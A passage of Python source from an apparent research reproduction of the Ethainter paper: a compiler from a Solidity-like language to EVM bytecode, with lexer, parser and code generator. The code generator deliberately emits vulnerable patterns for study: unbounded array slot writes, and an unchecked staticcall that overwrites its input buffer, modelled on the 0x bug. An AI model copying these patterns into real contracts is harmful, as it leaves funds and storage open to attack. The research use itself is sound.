            "%": "MOD",
            "==": "EQ",
            "<": "LT",
            ">": "GT",
        }
        if op in simple:
            items.append(Op(simple[op]))
            return items
        if op == "!=":
            items.append(Op("EQ"))
            items.append(Op("ISZERO"))
            return items
        if op == "<=":
            items.append(Op("GT"))
            items.append(Op("ISZERO"))
            return items
        if op == ">=":
            items.append(Op("LT"))
            items.append(Op("ISZERO"))
            return items
        raise CodegenError("unknown binary operator %r" % op)

    def _mapping_slot(self, expr: ast.IndexAccess) -> List[AsmItem]:
        """Emit code leaving the storage slot of an indexed element on the
        stack.

        Mapping elements live at ``SHA3(key ++ parent_slot)`` (through the
        hash scratch); fixed-size array elements at ``base_slot + index`` —
        raw slot arithmetic with *no bounds check*, exactly the unrestricted
        write pattern StorageWrite-2 over-approximates."""
        items: List[AsmItem] = []
        base = expr.base
        if isinstance(base, ast.Identifier):
            var = self.state_vars[base.name]
            if isinstance(var.var_type, ast.ArrayType):
                items.extend(self._expr_items(expr.index))
                items.append(Push(var.slot))
                items.append(Op("ADD"))
                return items
            parent: List[AsmItem] = [Push(var.slot)]
        elif isinstance(base, ast.IndexAccess):
            parent = self._mapping_slot(base)
        else:
            raise CodegenError("invalid mapping base %r" % base)
        # Compute the parent slot and the key onto the stack *before* touching
        # the hash scratch: a nested-mapping parent (or a key containing a
        # mapping read) uses the scratch itself.
        items.extend(parent)  # [parent_slot]
        items.extend(self._expr_items(expr.index))  # [parent_slot, key]
        items.append(Push(HASH_SCRATCH))
        items.append(Op("MSTORE"))  # mem[0x00] = key
        items.append(Push(HASH_SCRATCH + 32))
        items.append(Op("MSTORE"))  # mem[0x20] = parent slot
        items.append(Push(64))
        items.append(Push(HASH_SCRATCH))
        items.append(Op("SHA3"))
        return items

    def _internal_call(self, expr: ast.CallExpr) -> List[AsmItem]:
        fn = self.functions.get(expr.name)
        if fn is None:
            raise CodegenError("unknown function %r" % expr.name)
        if expr.name in self._call_stack:
            raise CodegenError(
                "recursive call to %r: MiniSol allocates frames statically "
                "and does not support recursion" % expr.name
            )
        layout = self.layouts[expr.name]
        items: List[AsmItem] = []
        # Evaluate arguments left-to-right onto the stack, then store them
        # into the callee's parameter slots (reverse order off the stack).
        for arg in expr.args:
            items.extend(self._expr_items(arg))
        for param in reversed(fn.params):
            items.append(Push(layout.offsets[param.name]))
            items.append(Op("MSTORE"))
        return_label = self._fresh_label("ret_%s" % expr.name)
        items.append(LabelRef(return_label))
        items.append(LabelRef(layout.entry_label))
        items.append(Op("JUMP"))
        items.append(Label(return_label))
        items.append(Push(RETURN_SLOT))
        items.append(Op("MLOAD"))
        return items

    def _builtin(self, expr: ast.CallExpr) -> List[AsmItem]:
        name = expr.name
        items: List[AsmItem] = []
        if name == "selfdestruct":
            items.extend(self._expr_items(expr.args[0]))
            items.append(Op("SELFDESTRUCT"))
            return items
        if name == "balance":
            items.extend(self._expr_items(expr.args[0]))
            items.append(Op("BALANCE"))
            return items
        if name == "gasleft":
            items.append(Op("GAS"))
            return items
        if name == "sha3":
            items.extend(self._expr_items(expr.args[0]))
            items.append(Push(HASH_SCRATCH))
            items.append(Op("MSTORE"))
            items.append(Push(32))
            items.append(Push(HASH_SCRATCH))
            items.append(Op("SHA3"))
            return items
        if name == "transfer":
            # transfer(to, amount) -> CALL(gas, to, amount, 0, 0, 0, 0)
            items.append(Push(0))  # out size
            items.append(Push(0))  # out offset
            items.append(Push(0))  # in size
            items.append(Push(0))  # in offset
            items.extend(self._expr_items(expr.args[1]))  # value
            items.extend(self._expr_items(expr.args[0]))  # to
            items.append(Op("GAS"))
            items.append(Op("CALL"))
            return items
        if name == "delegatecall":
            # delegatecall(target) with empty calldata; pushes success flag.
            items.append(Push(0))  # out size
            items.append(Push(0))  # out offset
            items.append(Push(0))  # in size
            items.append(Push(0))  # in offset
            items.extend(self._expr_items(expr.args[0]))  # target
            items.append(Op("GAS"))
            items.append(Op("DELEGATECALL"))
            return items
        if name in ("staticcall_unchecked", "staticcall_checked"):
            buffer = self.call_buffer
            # One-word input at `buffer`; output written OVER the input —
            # the exact shape of the 0x bug (paper §3.5).
            items.append(Push(32))  # out size
            items.append(Push(buffer))  # out offset == in offset
            items.append(Push(32))  # in size
            items.append(Push(buffer))  # in offset
            items.extend(self._expr_items(expr.args[0]))  # target
            # The call's one-word input is the target address itself (stand-in
            # for the signature payload the 0x code passed); written into the
            # shared buffer the output will (or won't) overwrite.
            items.append(Op("DUP1"))
            items.append(Push(buffer))
            items.append(Op("MSTORE"))
            items.append(Op("GAS"))
            items.append(Op("STATICCALL"))
            if name == "staticcall_checked":
                # require(success && RETURNDATASIZE() >= 32)
                ok_label = self._fresh_label("sc_ok")
                items.append(Op("RETURNDATASIZE"))
                items.append(Push(32))
                items.append(Op("GT"))  # 32 > rds  <=>  rds < 32
                items.append(Op("ISZERO"))  # rds >= 32
                items.append(Op("AND"))
                items.append(LabelRef(ok_label))
                items.append(Op("JUMPI"))
                items.append(Push(0))
                items.append(Push(0))
                items.append(Op("REVERT"))
                items.append(Label(ok_label))
            else:
                items.append(Op("POP"))  # success flag discarded: "unchecked"
            items.append(Push(buffer))
            items.append(Op("MLOAD"))
            return items
        raise CodegenError("unknown builtin %r" % name)

    def _external_call(self, expr: ast.ExternalCall) -> List[AsmItem]:
        """ABI-encoded external call (CALL or DELEGATECALL per ``kind``);
        pushes the success flag."""
        buffer = self.call_buffer
        selector = function_selector(expr.signature)
        items: List[AsmItem] = []
        # Store selector in the high 4 bytes of the first buffer word.
        items.append(Push(selector << 224))
        items.append(Push(buffer))
        items.append(Op("MSTORE"))
        for index, arg in enumerate(expr.args):
            items.extend(self._expr_items(arg))
            items.append(Push(buffer + 4 + 32 * index))
            items.append(Op("MSTORE"))
        in_size = 4 + 32 * len(expr.args)
        items.append(Push(32))  # out size
        items.append(Push(buffer))  # out offset
        items.append(Push(in_size))
        items.append(Push(buffer))  # in offset
        if expr.kind == "delegatecall":
            items.extend(self._expr_items(expr.target))
            items.append(Op("GAS"))
            items.append(Op("DELEGATECALL"))
            return items
        if expr.value is not None:
            items.extend(self._expr_items(expr.value))
        else:
            items.append(Push(0))
        items.extend(self._expr_items(expr.target))
        items.append(Op("GAS"))
        items.append(Op("CALL"))
        return items


@dataclass
class _ExprResult:
    items: List[AsmItem]
    pushes_value: bool
