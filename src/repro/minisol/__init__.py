"""MiniSol: a small Solidity-like language compiled to EVM bytecode.

MiniSol stands in for Solidity/`solc` in this reproduction.  It supports the
constructs the Ethainter paper's vulnerability classes revolve around:

* contracts with persistent state variables (``uint256``, ``address``,
  ``bool``) and (nested) ``mapping`` types laid out exactly like Solidity
  (sequential slots; mapping elements at ``hash(key ++ slot)``),
* ``public`` functions dispatched by 4-byte ABI selector,
* ``modifier`` definitions with the ``_;`` placeholder, ``require`` guards,
  and ``msg.sender`` — the guard idioms Ethainter models,
* the sensitive operations ``selfdestruct``, ``delegatecall``, and the
  checked/unchecked ``staticcall`` patterns of paper §3.5,
* internal function calls, external ABI calls, and value transfer.

The public entry point is :func:`compile_source`, which returns a
:class:`CompiledContract` carrying runtime bytecode, init bytecode, and the
ABI needed to interact with the contract on :class:`repro.chain.Blockchain`.
"""

from repro.minisol.ast_nodes import (
    Contract,
    FunctionDef,
    MappingType,
    ModifierDef,
    Program,
    StateVarDef,
    Type,
)
from repro.minisol.lexer import LexError, Token, tokenize
from repro.minisol.parser import ParseError, parse
from repro.minisol.checker import CheckError, check
from repro.minisol.compiler import CompiledContract, compile_contract, compile_source
from repro.minisol.abi import encode_args, encode_call, decode_word

__all__ = [
    "Program",
    "Contract",
    "FunctionDef",
    "ModifierDef",
    "StateVarDef",
    "Type",
    "MappingType",
    "Token",
    "tokenize",
    "LexError",
    "parse",
    "ParseError",
    "check",
    "CheckError",
    "compile_source",
    "compile_contract",
    "CompiledContract",
    "encode_call",
    "encode_args",
    "decode_word",
]
