"""Tokenizer for MiniSol source text."""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

KEYWORDS = {
    "contract",
    "function",
    "modifier",
    "constructor",
    "mapping",
    "uint256",
    "uint",
    "address",
    "bool",
    "public",
    "private",
    "internal",
    "external",
    "payable",
    "view",
    "pure",
    "returns",
    "return",
    "require",
    "if",
    "else",
    "while",
    "for",
    "true",
    "false",
    "msg",
    "this",
    "event",
    "emit",
}

# Multi-character operators first so maximal munch works.
SYMBOLS = [
    "=>",
    "==",
    "!=",
    "<=",
    ">=",
    "&&",
    "||",
    "+=",
    "-=",
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    ";",
    ",",
    "=",
    "<",
    ">",
    "+",
    "-",
    "*",
    "/",
    "%",
    "!",
    ".",
]


class LexError(Exception):
    """Raised on unrecognizable input."""

    def __init__(self, message: str, line: int):
        super().__init__("line %d: %s" % (line, message))
        self.line = line


@dataclass(frozen=True)
class Token:
    kind: str  # "keyword" | "ident" | "number" | "string" | "symbol" | "eof"
    text: str
    line: int

    def __repr__(self) -> str:
        return "Token(%s, %r, line %d)" % (self.kind, self.text, self.line)


def tokenize(source: str) -> List[Token]:
    """Convert ``source`` into a token list ending with an ``eof`` token."""
    tokens: List[Token] = []
    position = 0
    line = 1
    length = len(source)

    while position < length:
        char = source[position]

        if char == "\n":
            line += 1
            position += 1
            continue
        if char in " \t\r":
            position += 1
            continue

        # Comments.
        if source.startswith("//", position):
            end = source.find("\n", position)
            position = length if end == -1 else end
            continue
        if source.startswith("/*", position):
            end = source.find("*/", position)
            if end == -1:
                raise LexError("unterminated block comment", line)
            line += source.count("\n", position, end)
            position = end + 2
            continue

        # String literals (used for ABI call signatures).
        if char == '"':
            end = source.find('"', position + 1)
            if end == -1 or "\n" in source[position:end]:
                raise LexError("unterminated string literal", line)
            tokens.append(Token("string", source[position + 1 : end], line))
            position = end + 1
            continue

        # Numbers: decimal or 0x hex.
        if char.isdigit():
            start = position
            if source.startswith("0x", position) or source.startswith("0X", position):
                position += 2
                while position < length and source[position] in "0123456789abcdefABCDEF":
                    position += 1
            else:
                while position < length and source[position].isdigit():
                    position += 1
            tokens.append(Token("number", source[start:position], line))
            continue

        # Identifiers and keywords.
        if char.isalpha() or char == "_":
            start = position
            while position < length and (source[position].isalnum() or source[position] == "_"):
                position += 1
            text = source[start:position]
            kind = "keyword" if text in KEYWORDS else "ident"
            tokens.append(Token(kind, text, line))
            continue

        # Operators and punctuation.
        for symbol in SYMBOLS:
            if source.startswith(symbol, position):
                tokens.append(Token("symbol", symbol, line))
                position += len(symbol)
                break
        else:
            raise LexError("unexpected character %r" % char, line)

    tokens.append(Token("eof", "", line))
    return tokens
