"""Recursive-descent parser for MiniSol.

Grammar (roughly)::

    program     := contract*
    contract    := 'contract' IDENT '{' member* '}'
    member      := statevar | modifier | constructor | function
    statevar    := type IDENT ('=' expr)? ';'
    type        := 'uint256' | 'uint' | 'address' | 'bool'
                 | 'mapping' '(' type '=>' type ')'
    modifier    := 'modifier' IDENT ('(' params ')')? block
    constructor := 'constructor' '(' params? ')' block
    function    := 'function' IDENT '(' params? ')' attrs
                   ('returns' '(' type ')')? block
    stmt        := block | vardecl | if | while | require | return
                 | '_' ';' | assignment | exprstmt
    expr        := precedence-climbing over || && == != < <= > >= + - * / % ! -

``call(target, "sig(types)", args...)`` parses to an :class:`ExternalCall`
node; every other ``name(args)`` form is a :class:`CallExpr`, resolved to an
internal function or builtin by the checker.
"""

from __future__ import annotations

from typing import List, Optional

from repro.minisol import ast_nodes as ast
from repro.minisol.lexer import Token, tokenize

ELEMENTARY_TYPES = {"uint256": "uint256", "uint": "uint256", "address": "address", "bool": "bool"}

# Binary operator precedence: higher binds tighter.
PRECEDENCE = {
    "||": 1,
    "&&": 2,
    "==": 3,
    "!=": 3,
    "<": 4,
    ">": 4,
    "<=": 4,
    ">=": 4,
    "+": 5,
    "-": 5,
    "*": 6,
    "/": 6,
    "%": 6,
}


class ParseError(Exception):
    """A syntax error in MiniSol source."""

    def __init__(self, message: str, token: Token):
        super().__init__("line %d: %s (at %r)" % (token.line, message, token.text))
        self.token = token


class _Parser:
    def __init__(self, tokens: List[Token]):
        self.tokens = tokens
        self.position = 0

    # ----------------------------------------------------------- utilities

    @property
    def current(self) -> Token:
        return self.tokens[self.position]

    def advance(self) -> Token:
        token = self.current
        if token.kind != "eof":
            self.position += 1
        return token

    def check(self, text: str) -> bool:
        return self.current.text == text and self.current.kind in ("keyword", "symbol", "ident")

    def accept(self, text: str) -> bool:
        if self.check(text):
            self.advance()
            return True
        return False

    def expect(self, text: str) -> Token:
        if not self.check(text):
            raise ParseError("expected %r" % text, self.current)
        return self.advance()

    def expect_ident(self) -> Token:
        if self.current.kind != "ident":
            raise ParseError("expected identifier", self.current)
        return self.advance()

    def at_type(self) -> bool:
        return self.current.text in ELEMENTARY_TYPES or self.current.text == "mapping"

    # ------------------------------------------------------------- program

    def parse_program(self) -> ast.Program:
        program = ast.Program()
        while self.current.kind != "eof":
            program.contracts.append(self.parse_contract())
        return program

    def parse_contract(self) -> ast.Contract:
        line = self.current.line
        self.expect("contract")
        name = self.expect_ident().text
        contract = ast.Contract(name=name, line=line)
        self.expect("{")
        while not self.accept("}"):
            self.parse_member(contract)
        return contract

    def parse_member(self, contract: ast.Contract) -> None:
        if self.check("event"):
            contract.events.append(self.parse_event())
        elif self.check("modifier"):
            contract.modifiers.append(self.parse_modifier())
        elif self.check("constructor"):
            ctor = self.parse_constructor()
            if contract.constructor is not None:
                raise ParseError("duplicate constructor", self.current)
            contract.constructor = ctor
        elif self.check("function"):
            contract.functions.append(self.parse_function())
        elif self.at_type():
            contract.state_vars.append(self.parse_state_var())
        else:
            raise ParseError("expected contract member", self.current)

    # ----------------------------------------------------------- types

    def parse_type(self) -> ast.TypeLike:
        token = self.current
        if token.text in ELEMENTARY_TYPES:
            self.advance()
            return ast.Type(ELEMENTARY_TYPES[token.text])
        if token.text == "mapping":
            self.advance()
            self.expect("(")
            key = self.parse_type()
            if not isinstance(key, ast.Type):
                raise ParseError("mapping keys must be elementary types", token)
            self.expect("=>")
            value = self.parse_type()
            self.expect(")")
            return ast.MappingType(key=key, value=value)
        raise ParseError("expected type", token)

    def parse_elementary_type(self) -> ast.Type:
        parsed = self.parse_type()
        if not isinstance(parsed, ast.Type):
            raise ParseError("mapping type not allowed here", self.current)
        return parsed

    # ----------------------------------------------------------- members

    def parse_state_var(self) -> ast.StateVarDef:
        line = self.current.line
        var_type = self.parse_type()
        if isinstance(var_type, ast.Type) and self.accept("["):
            size_token = self.advance()
            if size_token.kind != "number":
                raise ParseError("array size must be a number literal", size_token)
            self.expect("]")
            var_type = ast.ArrayType(element=var_type, size=int(size_token.text, 0))
        name = self.expect_ident().text
        initializer = None
        if self.accept("="):
            initializer = self.parse_expression()
        self.expect(";")
        return ast.StateVarDef(var_type=var_type, name=name, line=line, initializer=initializer)

    def parse_params(self) -> List[ast.Param]:
        params: List[ast.Param] = []
        self.expect("(")
        if not self.check(")"):
            while True:
                param_type = self.parse_elementary_type()
                name = self.expect_ident().text
                params.append(ast.Param(param_type=param_type, name=name))
                if not self.accept(","):
                    break
        self.expect(")")
        return params

    def parse_modifier(self) -> ast.ModifierDef:
        line = self.current.line
        self.expect("modifier")
        name = self.expect_ident().text
        params = self.parse_params() if self.check("(") else []
        body = self.parse_block()
        return ast.ModifierDef(name=name, params=params, body=body, line=line)

    def parse_event(self) -> ast.EventDef:
        line = self.current.line
        self.expect("event")
        name = self.expect_ident().text
        params = self.parse_params()
        self.expect(";")
        return ast.EventDef(name=name, params=params, line=line)

    def parse_constructor(self) -> ast.FunctionDef:
        line = self.current.line
        self.expect("constructor")
        params = self.parse_params()
        while self.current.text in ("public", "payable", "internal"):
            self.advance()
        body = self.parse_block()
        return ast.FunctionDef(
            name="constructor",
            params=params,
            body=body,
            is_constructor=True,
            line=line,
        )

    def parse_function(self) -> ast.FunctionDef:
        line = self.current.line
        self.expect("function")
        name = self.expect_ident().text
        params = self.parse_params()
        visibility = "public"
        modifiers: List[ast.ModifierInvocation] = []
        return_type: Optional[ast.Type] = None
        while True:
            token = self.current
            if token.text in ("public", "private", "internal", "external"):
                visibility = token.text
                self.advance()
            elif token.text in ("payable", "view", "pure"):
                self.advance()  # accepted and ignored
            elif token.text == "returns":
                self.advance()
                self.expect("(")
                return_type = self.parse_elementary_type()
                if self.current.kind == "ident":
                    self.advance()  # optional named return value (ignored)
                self.expect(")")
            elif token.kind == "ident":
                mod_line = token.line
                mod_name = self.advance().text
                args: List[ast.Expr] = []
                if self.accept("("):
                    if not self.check(")"):
                        while True:
                            args.append(self.parse_expression())
                            if not self.accept(","):
                                break
                    self.expect(")")
                modifiers.append(ast.ModifierInvocation(name=mod_name, args=args, line=mod_line))
            else:
                break
        body = self.parse_block()
        return ast.FunctionDef(
            name=name,
            params=params,
            body=body,
            visibility=visibility,
            modifiers=modifiers,
            return_type=return_type,
            line=line,
        )

    # --------------------------------------------------------- statements

    def parse_block(self) -> ast.Block:
        line = self.current.line
        self.expect("{")
        statements: List[ast.Stmt] = []
        while not self.accept("}"):
            statements.append(self.parse_statement())
        return ast.Block(line=line, statements=statements)

    def parse_statement(self) -> ast.Stmt:
        token = self.current
        if self.check("{"):
            return self.parse_block()
        if self.at_type():
            var_type = self.parse_elementary_type()
            name = self.expect_ident().text
            initializer = None
            if self.accept("="):
                initializer = self.parse_expression()
            self.expect(";")
            return ast.VarDecl(line=token.line, var_type=var_type, name=name, initializer=initializer)
        if self.accept("if"):
            self.expect("(")
            condition = self.parse_expression()
            self.expect(")")
            then_branch = self.parse_statement()
            else_branch = self.parse_statement() if self.accept("else") else None
            return ast.If(
                line=token.line,
                condition=condition,
                then_branch=then_branch,
                else_branch=else_branch,
            )
        if self.accept("while"):
            self.expect("(")
            condition = self.parse_expression()
            self.expect(")")
            body = self.parse_statement()
            return ast.While(line=token.line, condition=condition, body=body)
        if self.accept("for"):
            # Sugar: for (init; cond; post) body
            #   =>   { init; while (cond) { body; post; } }
            self.expect("(")
            init: Optional[ast.Stmt] = None
            if not self.check(";"):
                init = self._parse_simple_statement()
            else:
                self.advance()
            condition: ast.Expr = ast.BoolLiteral(line=token.line, value=True)
            if not self.check(";"):
                condition = self.parse_expression()
            self.expect(";")
            post: Optional[ast.Stmt] = None
            if not self.check(")"):
                post = self._parse_loop_post()
            self.expect(")")
            body = self.parse_statement()
            loop_body = ast.Block(
                line=token.line,
                statements=[body] + ([post] if post is not None else []),
            )
            loop = ast.While(line=token.line, condition=condition, body=loop_body)
            statements: List[ast.Stmt] = []
            if init is not None:
                statements.append(init)
            statements.append(loop)
            return ast.Block(line=token.line, statements=statements)
        if self.accept("emit"):
            name = self.expect_ident().text
            self.expect("(")
            args: List[ast.Expr] = []
            if not self.check(")"):
                while True:
                    args.append(self.parse_expression())
                    if not self.accept(","):
                        break
            self.expect(")")
            self.expect(";")
            return ast.Emit(line=token.line, name=name, args=args)
        if self.accept("require"):
            self.expect("(")
            condition = self.parse_expression()
            self.expect(")")
            self.expect(";")
            return ast.Require(line=token.line, condition=condition)
        if self.accept("return"):
            value = None if self.check(";") else self.parse_expression()
            self.expect(";")
            return ast.Return(line=token.line, value=value)
        if self.current.kind == "ident" and self.current.text == "_":
            nxt = self.tokens[self.position + 1]
            if nxt.text == ";":
                self.advance()
                self.advance()
                return ast.Placeholder(line=token.line)

        expr = self.parse_expression()
        for op in ("=", "+=", "-="):
            if self.accept(op):
                if not isinstance(expr, (ast.Identifier, ast.IndexAccess)):
                    raise ParseError("invalid assignment target", token)
                value = self.parse_expression()
                self.expect(";")
                return ast.Assign(line=token.line, target=expr, value=value, op=op)
        self.expect(";")
        return ast.ExprStmt(line=token.line, expr=expr)

    def _parse_simple_statement(self) -> ast.Stmt:
        """A for-initializer: a variable declaration or assignment, with
        its terminating semicolon."""
        token = self.current
        if self.at_type():
            var_type = self.parse_elementary_type()
            name = self.expect_ident().text
            initializer = None
            if self.accept("="):
                initializer = self.parse_expression()
            self.expect(";")
            return ast.VarDecl(
                line=token.line, var_type=var_type, name=name, initializer=initializer
            )
        expr = self.parse_expression()
        for op in ("=", "+=", "-="):
            if self.accept(op):
                if not isinstance(expr, (ast.Identifier, ast.IndexAccess)):
                    raise ParseError("invalid assignment target", token)
                value = self.parse_expression()
                self.expect(";")
                return ast.Assign(line=token.line, target=expr, value=value, op=op)
        raise ParseError("expected declaration or assignment", token)

    def _parse_loop_post(self) -> ast.Stmt:
        """A for-loop post step: an assignment without a semicolon."""
        token = self.current
        expr = self.parse_expression()
        for op in ("=", "+=", "-="):
            if self.accept(op):
                if not isinstance(expr, (ast.Identifier, ast.IndexAccess)):
                    raise ParseError("invalid assignment target", token)
                value = self.parse_expression()
                return ast.Assign(line=token.line, target=expr, value=value, op=op)
        return ast.ExprStmt(line=token.line, expr=expr)

    # -------------------------------------------------------- expressions

    def parse_expression(self, min_precedence: int = 1) -> ast.Expr:
        left = self.parse_unary()
        while True:
            op = self.current.text
            precedence = PRECEDENCE.get(op)
            if self.current.kind != "symbol" or precedence is None or precedence < min_precedence:
                return left
            line = self.current.line
            self.advance()
            right = self.parse_expression(precedence + 1)
            left = ast.BinaryOp(line=line, op=op, left=left, right=right)

    def parse_unary(self) -> ast.Expr:
        token = self.current
        if self.current.kind == "symbol" and self.current.text in ("!", "-"):
            self.advance()
            operand = self.parse_unary()
            return ast.UnaryOp(line=token.line, op=token.text, operand=operand)
        return self.parse_postfix()

    def parse_postfix(self) -> ast.Expr:
        expr = self.parse_primary()
        while self.accept("["):
            index = self.parse_expression()
            self.expect("]")
            expr = ast.IndexAccess(line=expr.line, base=expr, index=index)
        return expr

    def parse_primary(self) -> ast.Expr:
        token = self.current
        if token.kind == "number":
            self.advance()
            return ast.NumberLiteral(line=token.line, value=int(token.text, 0))
        if token.text == "true":
            self.advance()
            return ast.BoolLiteral(line=token.line, value=True)
        if token.text == "false":
            self.advance()
            return ast.BoolLiteral(line=token.line, value=False)
        if token.text == "msg":
            self.advance()
            self.expect(".")
            member = self.expect_ident().text
            if member == "sender":
                return ast.MsgSender(line=token.line)
            if member == "value":
                return ast.MsgValue(line=token.line)
            raise ParseError("unknown msg member %r" % member, token)
        if token.text == "this":
            self.advance()
            return ast.ThisExpr(line=token.line)
        if self.accept("("):
            expr = self.parse_expression()
            self.expect(")")
            return expr
        if token.kind == "ident":
            name = self.advance().text
            if self.check("("):
                return self.parse_call(name, token)
            return ast.Identifier(line=token.line, name=name)
        raise ParseError("expected expression", token)

    def parse_call(self, name: str, token: Token) -> ast.Expr:
        self.expect("(")
        args: List[ast.Expr] = []
        signature: Optional[str] = None
        while not self.check(")"):
            if self.current.kind == "string":
                if signature is not None:
                    raise ParseError("multiple signature strings in call", self.current)
                signature = self.advance().text
            else:
                args.append(self.parse_expression())
            if not self.accept(","):
                break
        self.expect(")")
        if name in ("call", "callvalue_to") or (
            name == "delegatecall" and signature is not None
        ):
            if signature is None or not args:
                raise ParseError(
                    'external call needs a target and a "signature" string', token
                )
            value = None
            remaining = args[1:]
            if name == "callvalue_to":
                if len(args) < 2:
                    raise ParseError("callvalue_to needs target and value", token)
                value = args[1]
                remaining = args[2:]
            return ast.ExternalCall(
                line=token.line,
                target=args[0],
                signature=signature,
                args=remaining,
                value=value,
                kind="delegatecall" if name == "delegatecall" else "call",
            )
        if signature is not None:
            raise ParseError("unexpected string argument", token)
        return ast.CallExpr(line=token.line, name=name, args=args)


def parse(source: str) -> ast.Program:
    """Parse MiniSol source text into a :class:`Program`."""
    return _Parser(tokenize(source)).parse_program()
