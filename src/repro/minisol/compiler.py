"""MiniSol compilation driver.

``compile_source`` runs the full pipeline — lex, parse, check, generate — and
returns one :class:`CompiledContract` per contract (or a single one when a
``contract_name`` is given).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

from repro.minisol import ast_nodes as ast
from repro.minisol.abi import encode_args, encode_call
from repro.minisol.checker import BUILTINS, CheckError, check
from repro.minisol.codegen import CodegenError, ContractCodegen
from repro.minisol.parser import parse


@dataclass
class CompiledContract:
    """A compiled MiniSol contract, ready to deploy on the chain simulator."""

    name: str
    runtime: bytes
    init: bytes
    ast: ast.Contract
    source: str
    selectors: Dict[str, str] = field(default_factory=dict)  # signature -> name

    def init_with_args(self, *args: int) -> bytes:
        """Init code with ABI-encoded constructor arguments appended."""
        expected = len(self.ast.constructor.params) if self.ast.constructor else 0
        if len(args) != expected:
            raise ValueError(
                "constructor of %s expects %d argument(s), got %d"
                % (self.name, expected, len(args))
            )
        return self.init + encode_args(args)

    def calldata(self, function_name: str, *args: int) -> bytes:
        """Calldata invoking ``function_name`` with ``args``."""
        fn = self.ast.function(function_name)
        if not fn.is_public:
            raise ValueError("function %r is not public" % function_name)
        if len(args) != len(fn.params):
            raise ValueError(
                "%s expects %d argument(s), got %d"
                % (fn.signature, len(fn.params), len(args))
            )
        return encode_call(fn.signature, *args)

    @property
    def public_functions(self) -> List[ast.FunctionDef]:
        return [fn for fn in self.ast.functions if fn.is_public]


def _check_no_recursion(contract: ast.Contract) -> None:
    """Reject call-graph cycles: MiniSol frames are statically allocated."""
    graph: Dict[str, Set[str]] = {}
    defined_functions = {fn.name for fn in contract.functions}

    def callees(stmt_or_expr) -> Set[str]:
        found: Set[str] = set()

        def visit_expr(expr: ast.Expr) -> None:
            if isinstance(expr, ast.CallExpr):
                if expr.name in defined_functions or expr.name not in BUILTINS:
                    found.add(expr.name)
                for arg in expr.args:
                    visit_expr(arg)
            elif isinstance(expr, ast.BinaryOp):
                visit_expr(expr.left)
                visit_expr(expr.right)
            elif isinstance(expr, ast.UnaryOp):
                visit_expr(expr.operand)
            elif isinstance(expr, ast.IndexAccess):
                visit_expr(expr.base)
                visit_expr(expr.index)
            elif isinstance(expr, ast.ExternalCall):
                visit_expr(expr.target)
                if expr.value is not None:
                    visit_expr(expr.value)
                for arg in expr.args:
                    visit_expr(arg)

        def visit_stmt(stmt: ast.Stmt) -> None:
            if isinstance(stmt, ast.Block):
                for child in stmt.statements:
                    visit_stmt(child)
            elif isinstance(stmt, ast.VarDecl) and stmt.initializer is not None:
                visit_expr(stmt.initializer)
            elif isinstance(stmt, ast.Assign):
                visit_expr(stmt.target)
                visit_expr(stmt.value)
            elif isinstance(stmt, ast.If):
                visit_expr(stmt.condition)
                visit_stmt(stmt.then_branch)
                if stmt.else_branch is not None:
                    visit_stmt(stmt.else_branch)
            elif isinstance(stmt, ast.While):
                visit_expr(stmt.condition)
                visit_stmt(stmt.body)
            elif isinstance(stmt, ast.Require):
                visit_expr(stmt.condition)
            elif isinstance(stmt, ast.Emit):
                for arg in stmt.args:
                    visit_expr(arg)
            elif isinstance(stmt, ast.Return) and stmt.value is not None:
                visit_expr(stmt.value)
            elif isinstance(stmt, ast.ExprStmt):
                visit_expr(stmt.expr)

        visit_stmt(stmt_or_expr)
        return found

    for fn in contract.functions:
        graph[fn.name] = callees(fn.body)
        for invocation in fn.modifiers:
            for modifier in contract.modifiers:
                if modifier.name == invocation.name:
                    graph[fn.name] |= callees(modifier.body)
    if contract.constructor is not None:
        graph["constructor"] = callees(contract.constructor.body)

    # DFS cycle detection.
    WHITE, GRAY, BLACK = 0, 1, 2
    color = {name: WHITE for name in graph}

    def dfs(name: str) -> None:
        color[name] = GRAY
        for callee in graph.get(name, ()):
            if callee not in graph:
                continue
            if color.get(callee, WHITE) == GRAY:
                raise CheckError(
                    "recursive call cycle through %r: MiniSol does not "
                    "support recursion (frames are statically allocated)" % callee
                )
            if color.get(callee, WHITE) == WHITE:
                dfs(callee)
        color[name] = BLACK

    for name in list(graph):
        if color[name] == WHITE:
            dfs(name)


def compile_contract(contract: ast.Contract, source: str = "") -> CompiledContract:
    """Generate code for a single checked contract AST."""
    _check_no_recursion(contract)
    codegen = ContractCodegen(contract)
    runtime = codegen.compile_runtime()
    init = codegen.compile_init(runtime)
    selectors = {fn.signature: fn.name for fn in contract.functions if fn.is_public}
    return CompiledContract(
        name=contract.name,
        runtime=runtime,
        init=init,
        ast=contract,
        source=source,
        selectors=selectors,
    )


def compile_source(source: str, contract_name: Optional[str] = None):
    """Compile MiniSol ``source``.

    Returns a single :class:`CompiledContract` when ``contract_name`` is given
    (or when the source holds exactly one contract); otherwise a dict mapping
    contract names to compiled contracts.
    """
    program = check(parse(source))
    if not program.contracts:
        raise CheckError("no contracts in source")
    compiled = {
        contract.name: compile_contract(contract, source)
        for contract in program.contracts
    }
    if contract_name is not None:
        try:
            return compiled[contract_name]
        except KeyError:
            raise CheckError("no contract named %r" % contract_name) from None
    if len(compiled) == 1:
        return next(iter(compiled.values()))
    return compiled
