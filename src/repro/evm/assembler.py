"""A two-pass EVM assembler with symbolic labels.

The MiniSol code generator emits a list of :class:`AsmItem` values —
mnemonics, push-immediates, label definitions, and label references — and the
assembler resolves labels to byte offsets over (at most a few) sizing passes.

Label references always assemble to a fixed-width ``PUSH2`` so that offsets
remain stable once the layout converges; contracts larger than 64 KiB are not
a concern for this reproduction.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Sequence, Union

from repro.evm.opcodes import opcode_by_name


class AssemblyError(Exception):
    """Raised for malformed assembly input (unknown ops, duplicate labels)."""


@dataclass(frozen=True)
class Label:
    """Defines a jump target; assembles to a ``JUMPDEST``."""

    name: str


@dataclass(frozen=True)
class DataLabel:
    """Defines a position label without emitting any bytes.

    Used to reference embedded data (e.g. the runtime section of init code),
    where a ``JUMPDEST`` byte would corrupt the payload.
    """

    name: str


@dataclass(frozen=True)
class LabelRef:
    """Pushes the byte offset of a :class:`Label`; assembles to ``PUSH2``."""

    name: str


@dataclass(frozen=True)
class Push:
    """Pushes a literal value using the smallest sufficient ``PUSHn``."""

    value: int


@dataclass(frozen=True)
class Op:
